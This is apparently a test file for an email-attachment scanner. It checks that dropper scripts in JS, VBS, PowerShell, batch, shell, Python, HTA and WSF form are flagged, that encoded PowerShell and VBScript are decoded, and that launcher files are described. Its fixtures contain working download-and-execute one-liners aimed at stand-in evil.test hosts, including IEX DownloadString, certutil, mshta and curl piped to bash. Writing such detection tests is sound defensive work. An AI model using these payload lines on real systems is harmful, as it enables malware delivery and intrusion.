import { expect } from 'chai'
import { decodeScriptSections } from '../../../src/message/files/active/encoded-script.ts'
import { damaged, readAttached } from './reading.ts'

const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')

describe('message/files: scripts', () => {
  it('tells fetching and running, in the line that does it', async () => {
    const cases: Readonly<Record<string, string>> = {
      'a.js':
        'var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "https://d.evil.test/a"); var s = new ActiveXObject("WScript.Shell"); s.Run("a.exe")',
      'a.vbs':
        'Set x = CreateObject("MSXML2.ServerXMLHTTP")\nx.Open "GET", "https://d.evil.test/a", False\nCreateObject("WScript.Shell").Run "a.exe"',
      'a.ps1': "I`EX (New-Object Net.WebClient).DownloadString('https://d.evil.test/a')",
      'a.bat': '@echo off\r\ncertutil -url^cache -f https://d.evil.test/a a.exe\r\nstart a.exe',
      'a.cmd': 'mshta https://d.evil.test/a',
      'a.sh': '#!/bin/sh\ncurl -s https://d.evil.test/a | bash',
      'a.py': 'import requests\nexec(requests.get("https://d.evil.test/a").text)',
      'a.hta':
        '<html><script language="VBScript">CreateObject("WScript.Shell").Run "powershell iwr https://d.evil.test/a -o a.exe; start a.exe"</script></html>',
      'a.wsf':
        '<job><script language="JScript">var x = new ActiveXObject("WinHttp.WinHttpRequest.5.1"); x.Open("GET", "https://d.evil.test/a"); new ActiveXObject("Shell.Application").ShellExecute("a")</script></job>',
    }
    for (const [name, script] of Object.entries(cases)) {
      const { file, urls, detail } = await readAttached(name, script)
      expect(file.traits, name).to.include.members(['script', 'downloader'])
      expect(urls, name).to.include('https://d.evil.test/a')
      expect(detail('downloader'), name).to.not.equal(undefined)
    }
  })

  it('decodes a command of PowerShell, wherever it is written', async () => {
    const command = "IEX (New-Object Net.WebClient).DownloadString('https://d.evil.test/p')"
    for (const [name, line] of [
      ['a.bat', `powershell -w hidden -enc ${utf16(command)}`],
      ['a.js', `new ActiveXObject("WScript.Shell").Run("powershell -EncodedCommand ${utf16(command)}")`],
    ] as const) {
      const { file, urls, detail } = await readAttached(name, line)
      expect(file.traits).to.include.members(['encoded-command', 'downloader'])
      expect(urls).to.include('https://d.evil.test/p')
      expect(detail('encoded-command')).to.equal(command)
    }
  })

  it('takes addresses that VBScript makes of characters and pieces', async () => {
    const chars = Array.from('https://c.evil.test/x')
      .map((char) => `Chr(${char.charCodeAt(0)})`)
      .join(' & ')
    expect((await readAttached('a.vbs', `u = ${chars}`)).urls).to.include('https://c.evil.test/x')
    expect((await readAttached('a.vbs', 'u = "https://p" & _\r\n "arts.evil.test/" & "x"')).urls).to.include('https://parts.evil.test/x')
  })

  it('undoes the script encoder of Windows', async () => {
    // The first words of `MsgBox "…`, as Microsoft's screnc.exe writes them.
    expect(decodeScriptSections('#@~^CAAAAA==\\ko$K6,JAAAAAA==^#~@')).to.equal('MsgBox "')
    const { file, detail } = await readAttached('a.vbe', '#@~^CAAAAA==\\ko$K6,JAAAAAA==^#~@')
    expect(file.traits).to.include.members(['script', 'encoded-script'])
    expect(detail('encoded-script')).to.be.a('string')
    expect((await readAttached('notes', '#@~^CAAAAA==\\ko$K6,JAAAAAA==^#~@')).file.traits).to.include('encoded-script')
  })

  it('says where launchers connect and what they start', async () => {
    const rdp = await readAttached(
      'a.rdp',
      'screen mode id:i:2\r\nfull address:s:desk.example.com:3389\r\ndrivestoredirect:s:*\r\nremoteapplicationprogram:s:||report',
    )
    expect(rdp.detail('connects')).to.equal('remote desktop of desk.example.com:3389, starts ||report, hands over drives *')
    expect(rdp.urls).to.deep.equal(['http://desk.example.com/'])
    expect(rdp.file.traits).to.include('launcher')
    const setting = await readAttached(
      'a.settingcontent-ms',
      '<PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c powershell</DeepLink></PCSettings>',
    )
    expect(setting.detail('downloader')).to.contain('cmd.exe')
    const query = await readAttached('a.iqy', 'WEB\r\n1\r\nhttps://q.evil.test/x')
    expect(query.urls).to.deep.equal(['https://q.evil.test/x'])
    const sheet = await readAttached('a.slk', 'ID;P\nC;X1;Y1;K0;EEXEC("cmd /c calc")\nE')
    expect(sheet.detail('downloader')).to.contain('EXEC')
    const share = await readAttached(
      'a.library-ms',
      '<libraryDescription><url>\\\\files.evil.test@SSL\\DavWWWRoot\\x</url></libraryDescription>',
    )
    expect(share.detail('connects')).to.equal('reads from the share of files.evil.test')
    const app = await readAttached('a.appinstaller', '<AppInstaller Uri="https://i.evil.test/a.appinstaller" />')
    expect(app.detail('downloader')).to.equal('installs from https://i.evil.test/a.appinstaller')
  })

  it('knows scripts without an extension, and does not call texts and pictures scripts', async () => {
    expect((await readAttached('install', '#!/bin/bash\necho hi')).file.traits).to.include('script')
    expect((await readAttached('report.pdf', '@echo off\r\ndir')).file.traits).to.include('script')
    for (const [name, text] of [
      ['howto.txt', '#!/bin/bash\ncurl https://x.example/ | sh'],
      ['README.md', '@echo off'],
      ['minutes', 'Minutes of Tuesday'],
    ] as const)
      expect((await readAttached(name, text)).file.traits, name).to.not.include('script')
  })

  it('leaves the downloads of developers alone', async () => {
    for (const [name, text] of [
      ['deploy.sh', '#!/bin/bash\nset -e\ncurl -fsS https://api.example/status\nnpm ci'],
      ['fetch.py', 'import requests, subprocess\nr = requests.get("https://api.example/x")\nsubprocess.run(["ls"])'],
      ['app.js', 'fetch("https://api.example/v1").then((r) => r.json()).then(show); eval("1")'],
      ['list.ps1', 'Get-ChildItem | Sort-Object Length'],
      ['build.bat', '@echo off\r\nmsbuild app.sln'],
    ] as const) {
      const { traits } = (await readAttached(name, text)).file
      expect(traits, name).to.include('script')
      expect(traits, name).to.not.include('downloader')
    }
  })

  it('survives truncated and mutated scripts', async () => {
    const script = Buffer.from(
      `#@~^CAAAAA==\\ko$K6,JAAAAAA==^#~@\nx = "a" & Chr(104) & Chr(116)\npowershell -enc ${utf16('iwr https://x.example/')}`,
    )
    for (const bytes of damaged(script)) for (const name of ['a.vbe', 'a.ps1', 'a.js']) await readAttached(name, bytes)
  })
})
